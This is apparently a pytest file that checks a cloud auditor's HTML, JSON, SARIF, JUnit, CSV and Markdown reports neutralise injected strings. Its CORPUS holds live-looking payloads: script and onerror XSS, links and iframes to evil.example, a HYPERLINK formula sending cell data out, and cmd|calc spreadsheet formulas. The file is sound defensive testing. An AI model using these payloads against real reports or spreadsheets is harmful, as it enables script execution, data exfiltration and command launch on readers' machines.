"""Strings from a cloud render inert in every format.

A corpus of injection strings goes into a real inventory (bucket names and ids, tag keys and values,
principals, coverage-gap errors, so into finding messages too), then ``auditor evaluate`` writes every
format. Each is read back the way its consumer reads it: JSON/SARIF and JUnit parsed, CSV cells checked
for spreadsheet formulas, Markdown rendered by a CommonMark renderer (as GitHub and GitLab do), the HTML
opened in headless Chromium.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import tempfile
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from auditor.demo.sample import sample_inventory
from auditor.model.codec import to_dict
from tests.reliability.conftest import run_cli

CORPUS = (
    "<script>window.__pwned=1</script>",
    '"><img src=x onerror="window.__pwned=2">',
    "<svg onload=\"window.__pwned=3\"><circle r='9'/></svg>",
    "javascript:window.__pwned=4",
    '<a href="http://evil.example/a">click</a>',
    "<iframe src='http://evil.example/frame'></iframe>",
    "<style>body{background:url(http://evil.example/css)}</style>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
    '<base href="http://evil.example/">',
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "[a link](http://evil.example/md)",
    "![an image](http://evil.example/img.png)",
    "<http://evil.example/autolink>",
    "]]><injected attr='1'/><![CDATA[",
    "</failure></testcase><testcase name='forged'/>",
    "ctl\x00nul\x07bell\x1b[31mred\x0bvt\x1f",
    "bidi \u202etxt.exe\u202c \u2066isolated\u2069",
    "c1 \x9b31mcsi \x85nel \x90dcs \u200frlm \u061calm",
    "osc \x1b]0;window-title\x07 \x1b]8;;http://evil.example/osc\x1b\\link\x1b]8;;\x1b\\",
    "{{ 7*7 }} ${7*7} {% raw %}",
    "line\nbreak\r\nand | pipe | `code` *em* _u_ # heading",
)
EVIL = "evil.example"


def hostile_inventory() -> dict[str, Any]:
    doc = to_dict(sample_inventory())
    for i, res in enumerate(doc["resources"]):
        payload = CORPUS[i % len(CORPUS)]
        res["name"] = payload
        res["tags"] = {**res["tags"], "owner": CORPUS[(i + 1) % len(CORPUS)], CORPUS[(i + 2) % len(CORPUS)]: "v"}
        if i % 3 == 0:
            res["id"] = f"{res['id']}{CORPUS[(i + 3) % len(CORPUS)]}"
        for grant in res.get("access") or ():
            grant["principal"] = f"{grant['principal']}{CORPUS[(i + 4) % len(CORPUS)]}"
    for j, gap in enumerate(doc["coverage_gaps"]):
        gap["error"] = " ".join(CORPUS[j::2])
    return doc


@pytest.fixture(scope="module")
def out() -> Iterator[Path]:
    tmp = Path(tempfile.mkdtemp(prefix="auditor-injection-"))
    inventory = tmp / "inventory.json"
    inventory.write_text(json.dumps(hostile_inventory(), ensure_ascii=False), "utf-8")
    result = run_cli(["evaluate", str(inventory), "--out", str(tmp / "out"), "--quiet",
                      "--format", "html,json,sarif,junit,csv,md"])
    assert result.code in (1, 3), result
    yield tmp / "out"
    shutil.rmtree(tmp, ignore_errors=True)


def test_the_corpus_reached_the_outputs(out: Path) -> None:
    doc = json.loads((out / "findings.json").read_text("utf-8"))
    strings = {s for _, s in _strings(doc)} | {k for r in doc["resources"] for k in r["tags"]}
    assert [c for c in CORPUS if not any(c in s for s in strings)] == []
    messages = " ".join(f["message"]["en"] for f in doc["findings"])
    assert "<script>window.__pwned=1</script>" in messages  # the data is kept, exactly; rendering makes it inert


def test_sarif_parses_and_carries_no_markdown_link(out: Path) -> None:
    sarif = json.loads((out / "findings.sarif").read_text("utf-8"))
    assert sarif["version"] == "2.1.0"
    texts = _strings(sarif)
    markdown = [t for key, t in texts if key == "markdown"]
    assert not [t for t in markdown if f"]({'http'}" in t and EVIL in t]
    assert not [t for t in markdown if "<script" in t or "<img" in t]


def test_junit_parses_and_nothing_was_forged(out: Path) -> None:
    root = ET.fromstring((out / "junit.xml").read_bytes())
    tags = {el.tag for el in root.iter()}
    assert tags <= {"testsuites", "testsuite", "testcase", "failure", "skipped", "error", "properties", "property",
                    "system-out", "system-err"}, tags
    assert not [tc for tc in root.iter("testcase") if tc.get("name") == "forged"]


def test_csv_cells_cannot_be_formulas(out: Path) -> None:
    rows = list(csv.reader(io.StringIO((out / "findings.csv").read_text("utf-8"), newline="")))
    width = len(rows[0])
    assert all(len(r) == width for r in rows), "a cell broke out of its column"
    live = [c for r in rows[1:] for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
    assert live == []


def test_markdown_renders_no_link_image_or_html(out: Path) -> None:
    from markdown_it import MarkdownIt

    text = (out / "summary.md").read_text("utf-8")
    html = MarkdownIt("commonmark", {"html": True, "linkify": False}).render(text)
    found = _Tags()
    found.feed(html)
    assert not found.dangerous, found.dangerous
    assert not [v for v in found.urls if EVIL in v or v.lower().startswith("javascript:")], found.urls
    assert "\x1b" not in text and "\x00" not in text


def _unsafe(text: str) -> list[str]:
    return sorted({hex(ord(c)) for c in text if (ord(c) < 32 and c not in "\n\r\t") or 0x7F <= ord(c) <= 0x9F
                   or 0x202A <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069 or c in "\u061c\u200e\u200f"})


def test_no_control_or_bidi_character_reaches_a_text_format(out: Path) -> None:
    for name in ("summary.md", "findings.csv", "junit.xml", "report.html", "findings.sarif", "findings.json"):
        assert _unsafe((out / name).read_text("utf-8")) == [], name  # the raw file, as a terminal or editor shows it
    for name in ("findings.sarif",):  # what a SARIF viewer shows: the decoded strings
        assert [(k, _unsafe(t)) for k, t in _strings(json.loads((out / name).read_text("utf-8"))) if _unsafe(t)] == []


def test_findings_json_keeps_the_data_exactly_as_escapes(out: Path) -> None:
    doc = json.loads((out / "findings.json").read_text("utf-8"))
    strings = {s for _, s in _strings(doc)} | {k for r in doc["resources"] for k in r["tags"]}
    assert any("c1 \x9b31mcsi \x85nel \x90dcs \u200frlm \u061calm" in s for s in strings)  # exact, as escapes


# ---- the HTML in a real browser -------------------------------------------------------------------------

@pytest.mark.browser
def test_html_in_chromium_runs_nothing_and_requests_nothing(out: Path) -> None:
    from tests.render.test_render_browser import CHROMEDRIVER, CHROMIUM

    if not (Path(CHROMIUM).exists() and Path(CHROMEDRIVER).exists()):
        pytest.skip("headless Chromium not installed (apt-get install chromium chromium-driver)")
    from selenium import webdriver
    from selenium.common.exceptions import NoAlertPresentException
    from selenium.webdriver.chrome.service import Service

    profile = tempfile.mkdtemp(prefix="auditor-chrome-")
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", "--no-first-run", f"--user-data-dir={profile}"):
        options.add_argument(arg)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    try:
        page = out / "report.html"
        driver.get("about:blank")
        driver.get_log("performance")  # what the browser did on its own before the report
        driver.get(page.as_uri())
        driver.execute_script("return document.readyState")
        import time

        time.sleep(0.5)  # let any onload/onerror handler that slipped through fire
        with pytest.raises(NoAlertPresentException):
            driver.switch_to.alert.text  # noqa: B018
        assert driver.execute_script("return typeof window.__pwned") == "undefined"
        requested = [json.loads(e["message"])["message"]["params"]["request"]["url"]
                     for e in driver.get_log("performance")
                     if json.loads(e["message"])["message"]["method"] == "Network.requestWillBeSent"]
        assert [u for u in requested if not u.startswith(("file:", "data:", "about:"))] == [], requested
        assert driver.execute_script(
            "return document.querySelectorAll('iframe, base, meta[http-equiv=refresh], img[src*=evil], "
            "a[href*=evil], svg[onload], [onerror]').length") == 0
        body = driver.execute_script("return document.body.innerText")
        assert "<script>window.__pwned=1</script>" in body  # shown as text, not run
    finally:
        driver.quit()
        shutil.rmtree(profile, ignore_errors=True)


# ---- helpers --------------------------------------------------------------------------------------------

DANGEROUS = {"script", "img", "svg", "iframe", "style", "meta", "base", "object", "embed", "form", "input",
             "injected", "testcase"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.dangerous: list[str] = []
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS or any(k.startswith("on") for k, _ in attrs):
            self.dangerous.append(tag)
        self.urls += [v or "" for k, v in attrs if k in ("href", "src")]


def _strings(node: Any, key: str = "") -> list[tuple[str, str]]:
    if isinstance(node, str):
        return [(key, node)]
    if isinstance(node, dict):
        return [s for k, v in node.items() for s in _strings(v, k)]
    if isinstance(node, list):
        return [s for v in node for s in _strings(v, key)]
    return []


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
